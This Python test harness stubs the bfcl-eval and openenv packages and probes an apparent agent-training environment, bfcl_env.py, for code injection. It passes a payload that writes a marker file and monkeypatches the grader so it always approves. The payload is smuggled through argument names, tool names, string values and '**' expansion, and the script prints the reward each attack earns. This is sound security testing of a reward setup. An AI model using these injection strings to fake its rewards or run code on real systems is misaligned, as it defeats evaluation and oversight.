"""Attacks bfcl_env.py, with a small stand-in for the packages that it needs.

As bfcl-eval does, the stand-in evaluates calls as source. It prints the reward of each attack, and of
an agent that solves the task.
"""

import json
import os
import sys
import types

EXAMPLES, MARK = sys.argv[1:]


def module(name, **members):
    sys.modules[name] = found = types.ModuleType(name)
    vars(found).update(members)
    return found


class Record:
    """Stands in for a model of pydantic."""

    def __init__(self, **fields):
        vars(self).update(fields)


for name in ("openenv", "openenv.core", "openenv.core.env_server", "bfcl_eval", "bfcl_eval.constants",
             "bfcl_eval.eval_checker"):
    module(name)
module("openenv.core.env_server.http_server", create_fastapi_app=lambda *_, **__: None)
module("openenv.core.env_server.interfaces", Environment=object)
module("openenv.core.env_server.types", Action=Record, Observation=Record, State=Record)


class Lights:
    def __init__(self):
        self.on = []

    def switch(self, room, on=True):
        self.on = self.on + [room] if on else [r for r in self.on if r != room]
        return {"on": self.on}


made = {}  # as the package, by the name of the model


def execute_multi_turn_func_call(calls, config, classes, model, entry, long_context=False, is_evaL_run=False):
    lights = made.setdefault(model + ("_eval" if is_evaL_run else ""), Lights())
    results = []
    for call in calls:
        try:
            results.append(json.dumps(eval("lights." + call)))
        except Exception as e:
            results.append(f"Error during execution: {e}")
    return results, {"Lights": lights}


def state_checker(is_, should):
    return {"valid": is_["Lights"].on == should["Lights"].on, "error_type": "state", "error_message": "differs"}


def response_checker(is_, should, turn):
    return {"valid": set(should) <= set(is_), "error_type": "response", "error_message": "differs"}


def multi_turn_checker(turns, gold, entry, category, model):
    results = []
    for i, steps in enumerate(turns):
        for calls in steps:
            more, is_ = execute_multi_turn_func_call(calls, {}, [], model, "")
            results += more
        told, should = execute_multi_turn_func_call(gold[i], {}, [], model + "_gold", "")
        for found in (state_checker(is_, should), response_checker(results, told, i)):
            if not found["valid"]:
                return found
    return {"valid": True}


entry = {
    "id": "multi_turn_base_0", "question": [[{"content": "Light the hall."}]],
    "function": [{"name": "switch", "description": "", "parameters": {
        "type": "dict", "properties": {"room": {"type": "string"}, "on": {"type": "boolean"}}}}],
    "initial_config": {}, "involved_classes": ["Lights"],
}
gold = {"id": "multi_turn_base_0", "ground_truth": [["switch(room='hall')"]]}
module("bfcl_eval.constants.default_prompts", DEFAULT_USER_PROMPT_FOR_ADDITIONAL_FUNCTION_FC="")
module("bfcl_eval.constants.executable_backend_config", CLASS_FILE_PATH_MAPPING={"Lights": "__main__"})
module("bfcl_eval.constants.type_mappings", GORILLA_TO_OPENAPI={"dict": "object"})
utils = module("bfcl_eval.eval_checker.multi_turn_eval.multi_turn_utils",
               execute_multi_turn_func_call=execute_multi_turn_func_call)
module("bfcl_eval.eval_checker.multi_turn_eval", multi_turn_utils=utils)
module("bfcl_eval.eval_checker.multi_turn_eval.multi_turn_checker", multi_turn_checker=multi_turn_checker,
       state_checker=state_checker, response_checker=response_checker)
module("bfcl_eval.utils", load_ground_truth_entry=lambda c: [gold] * (c == "multi_turn_base"),
       load_dataset_entry=lambda c, **_: [entry] * (c == "multi_turn_base"))
sys.path.insert(0, EXAMPLES)
import bfcl_env

CODE = (f'[open({MARK!r}, "w"), setattr(__import__("sys").modules["bfcl_env"], "judged", '
        "(lambda judged: lambda *_: judged(True))(__import__('sys').modules['bfcl_env'].judged))]")


def reward(name, arguments):
    """The reward for one call, and whether code was carried out. Nothing is left for the next one."""
    judged = bfcl_env.judged
    session = bfcl_env.Bfcl()
    session.begin("multi_turn_base_0")
    session.call(name, arguments)
    found = session.message("Done.").reward
    session.close()
    bfcl_env.judged = judged
    if ran := os.path.exists(MARK):
        os.remove(MARK)
    return [found, ran]


json.dump({
    "honest": reward("switch", {"room": "hall"}),
    "name of an argument": reward("switch", {f"room={CODE}, on": True}),
    "two stars": reward("switch", {f"**{CODE} and {{}}, on": True}),
    "name of a tool": reward(f"switch({CODE}) or lights.switch", {"on": True}),
    "value": reward("switch", {"room": f"' + str({CODE}) + '"}),
    "name in a value": reward("switch", {"room": {f"' + str({CODE}) + '": CODE}}),
    "tool that is not offered": reward("__init__", {}),
    "self": reward("switch", {"self": 1, "room": "hall"}),
}, sys.stdout)
